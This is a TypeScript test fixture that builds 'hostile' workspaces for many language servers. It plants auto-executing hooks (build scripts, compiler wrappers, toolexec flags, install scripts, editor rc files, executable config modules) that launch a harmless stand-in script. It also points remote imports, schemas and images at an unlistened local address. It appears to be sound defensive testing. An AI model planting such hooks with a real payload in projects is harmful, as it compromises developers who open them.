import type { Files } from "../support/workspace.ts";

/** An address without a listener: a request to it is visible, and learns nothing. */
export const hostileAddress = "127.0.0.1:9";

const url = `http://${hostileAddress}`;
const evil = "#!/bin/sh\nexit 0\n";
const evilModule =
	'require("node:child_process").execFileSync(require("node:path").join(__dirname, "evil.sh"));\nmodule.exports = {};\n';
const evilPython = 'import subprocess\nsubprocess.run(["./evil.sh"])\n';

/** The files of every hostile tree: programs under the names that tools look for next to a project. */
const everywhere: Files = {
	"evil.sh": evil,
	"node_modules/.bin/node": evil,
	"node_modules/.bin/npm": evil,
	".venv/bin/python": evil,
	".venv/pyvenv.cfg": "home = /usr/bin\nversion = 3.11.0\n",
	"sitecustomize.py": evilPython,
	"json.py": evilPython,
	".npmrc": `registry=${url}/\nscript-shell=./evil.sh\n`,
	".editorconfig": "root = true\n",
};

const pluginOfTypescript: Files = {
	"tsconfig.json": JSON.stringify({
		compilerOptions: {
			strict: true,
			module: "nodenext",
			noEmit: true,
			types: [],
			plugins: [{ name: "evil-plugin" }, { name: "../evil-plugin" }],
		},
	}),
	"node_modules/evil-plugin/package.json": '{ "name": "evil-plugin", "main": "index.js" }',
	"node_modules/evil-plugin/index.js": evilModule,
	"node_modules/evil-plugin/evil.sh": evil,
};

const typescript5: Files = {
	...pluginOfTypescript,
	"node_modules/typescript/package.json": '{ "name": "typescript", "version": "5.9.3", "main": "lib/typescript.js" }',
	"node_modules/typescript/lib/typescript.js": evilModule,
	"node_modules/typescript/lib/tsserver.js": evilModule,
	"node_modules/typescript/lib/evil.sh": evil,
};

/**
 * The files of the project of a server's live case, or over it, by server: everything there that it might run, write
 * or fetch.
 */
const ofServer: Readonly<Record<string, Files>> = {
	typescript: pluginOfTypescript,
	"typescript-language-server": typescript5,
	vtsls: typescript5,
	deno: {
		"deno.json": JSON.stringify({
			nodeModulesDir: "auto",
			imports: { evil: `${url}/evil.ts` },
			lint: { plugins: ["./evil-lint.ts"] },
			tasks: { check: "./evil.sh" },
		}),
		"evil-lint.ts": 'new Deno.Command("./evil.sh").outputSync();\nexport default { name: "evil", rules: {} };\n',
		"a.ts": `import evil from "evil";\nexport const a: number = Deno.args[0];\nexport const b = [evil, import("${url}/b.ts")];\n`,
	},
	biome: {
		"biome.json": JSON.stringify({ $schema: `${url}/schema.json`, plugins: ["./evil.grit"] }),
		"evil.grit": "`evil`\n",
	},
	basedpyright: { "typings/evil/__init__.pyi": "" },
	ty: {
		"pyproject.toml": "[project]\nname = 'x'\nversion = '1'\n\n[tool.ty.environment]\npython = '.venv'\n",
		"uv.lock": "version = 1\n",
		"re.py": evilPython,
	},
	ruff: { "ruff.toml": 'extend = "other.toml"\ncache-dir = "/tmp/evil-cache"\n', "other.toml": "" },
	"jedi-language-server": { ".jedi/project.json": '[1, { "environment_path": ".venv/bin/python" }]' },
	gopls: {
		"go.mod": `module ex\n\ngo 1.22\n\ntoolchain go1.99.0\n\nrequire example.invalid/evil v1.0.0\n`,
		"b.go": 'package ex\n\n// #cgo CFLAGS: -fplugin=./evil.so\n// #cgo pkg-config: evil\nimport "C"\n',
		"go.sum": ["", "/go.mod"]
			.map((part) => `example.invalid/evil v1.0.0${part} h1:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=\n`)
			.join(""),
		"d.go": 'package ex\n\nimport _ "example.invalid/evil"\n',
		"c.go": "package ex\n\n//go:generate ./evil.sh\n",
		"go.env": "GOFLAGS=-toolexec=./evil.sh\n",
	},
	clangd: {
		"compile_commands.json": JSON.stringify([
			{
				directory: ".",
				file: "a.c",
				arguments: [
					"./evil.sh",
					"-Xclang",
					"-diagnostic-log-file",
					"-Xclang",
					"evil.log",
					"-fplugin=./evil.so",
					"-c",
					"a.c",
				],
			},
		]),
		".clangd": "CompileFlags:\n  Compiler: ./evil.sh\n",
		".clang-tidy": "Checks: '*'\n",
	},
	"rust-analyzer": {
		"build.rs": 'fn main() { std::process::Command::new("./evil.sh").status().unwrap(); }\n',
		".cargo/config.toml": '[build]\nrustc-wrapper = "./evil.sh"\n',
	},
	pyrefly: {
		"pyrefly.toml":
			'python-interpreter-path = ".venv/bin/python"\n\n[build-system]\ntype = "custom"\ncommand = ["./evil.sh"]\n',
		"re.py": evilPython,
	},
	"json-language-server": { "a.json": `{ "$schema": "${url}/schema.json", "a": }\n` },
	"yaml-language-server": { "a.yaml": `# yaml-language-server: $schema=${url}/schema.json\na: 1\n b: 2\n` },
	fortls: {
		"evil.F90": '#define EVIL __import__("os").system("./evil.sh")\n#if EVIL\n#endif\nprogram evil\nend program evil\n',
	},
	"bash-language-server": {
		".shellcheckrc": "external-sources=true\nsource-path=/etc\n",
		"a.sh": "#!/bin/sh\n. ./evil.sh\n. /etc/hosts\nif true; then\n\t./evil.sh -\n",
	},
	intelephense: {
		"composer.json": '{ "autoload": { "files": ["evil.php"] }, "scripts": { "post-install-cmd": "./evil.sh" } }',
		"vendor/autoload.php": '<?php system("./evil.sh");\n',
		"evil.php": '<?php system("./evil.sh");\n',
	},
	"vim-language-server": {
		".vimrc": "call system('./evil.sh')\n",
		".exrc": "call system('./evil.sh')\n",
		"autoload/evil.vim": "call system('./evil.sh')\n",
	},
	"html-language-server": {
		"a.html": `<link rel="stylesheet" href="${url}/a.css">\n<script src="${url}/a.js"></script>\n<style>\na { color }\n</style>\n`,
		".vscode/settings.json": '{ "html.customData": ["./evil.json"] }',
	},
	"css-language-server": { "a.css": `@import url("${url}/a.css");\na { color: ; }\n` },
	"actions-languageserver": {
		".github/workflows/a.yml": `on: push\njobs:\n  a:\n    runs: ubuntu-latest\n    steps:\n      - uses: evil/evil@v1\n      - uses: ./evil\n      - uses: docker://${hostileAddress}/evil\n`,
		"evil/action.yml": "runs:\n  using: composite\n  steps: []\n",
	},
	"docker-langserver": { Dockerfile: `# syntax=${hostileAddress}/evil\nFROM ${hostileAddress}/evil\nRUNS ls\n` },
	"docker-compose-langserver": {
		"compose.yaml": `include: ["${url}/b.yaml", /etc/hosts]\nservices:\n  a:\n     image: ${hostileAddress}/evil\n    command: ls\n`,
	},
	tombi: {
		"tombi.toml": `[[schemas]]\npath = "${url}/schema.json"\ninclude = ["*.toml"]\n\n[schema]\nenabled = true\n`,
		"a.toml": `#:schema ${url}/schema.json\na = 1\nb = \n`,
	},
	"prisma-language-server": { "prisma.config.js": evilModule },
	buf: {
		"a.proto": 'syntax = "proto3";\npackage a;\nmessage A {\n  string b = 1;\n}\n',
		"buf.yaml": `version: v2\nplugins:\n  - plugin: ./evil.sh\nlint:\n  use: [STANDARD, EVIL]\n`,
	},
	"just-lsp": {
		justfile:
			"set shell := ['./evil.sh']\nset dotenv-load\nimport? '/etc/hosts'\nx := `./evil.sh`\n\na:\n  ls\n\nb: c\n  ls\n",
		".env": "EVIL=1\n",
	},
	cue: {
		"cue.mod/module.cue": `module: "example.com/ex@v0"\nlanguage: version: "v0.9.0"\ndeps: "${hostileAddress}/evil@v1": v: "v1.0.0"\n`,
		"a_tool.cue": 'package a\n\nimport "tool/exec"\n\ncommand: evil: exec.Run & {cmd: "./evil.sh"}\n',
	},
	eslint: {
		"eslint.config.js":
			'import { execFileSync } from "node:child_process";\nexecFileSync("./evil.sh");\nexport default [];\n',
		"package.json": '{ "type": "module" }',
	},
	stylelint: { ".stylelintrc.json": '{ "plugins": ["./evil.cjs"], "rules": {} }', "evil.cjs": evilModule },
	tailwindcss: { "tailwind.config.js": evilModule },
	"vue-language-server": {
		"tsconfig.json": '{ "vueCompilerOptions": { "plugins": ["./evil.cjs"] } }',
		"evil.cjs": evilModule,
	},
	"mdx-language-server": {
		"tsconfig.json": '{ "mdx": { "plugins": ["./evil.cjs"] } }',
		"evil.cjs": evilModule,
	},
	"terraform-ls": { "main.tf": `module "evil" {\n  source = "git::${url}/evil"\n}\n` },
	"svelte-language-server": { "svelte.config.js": evilModule },
};

/** The files of a server's hostile tree, over those of its live case. */
export function hostileFiles(server: string): Files {
	return { ...everywhere, ...ofServer[server] };
}
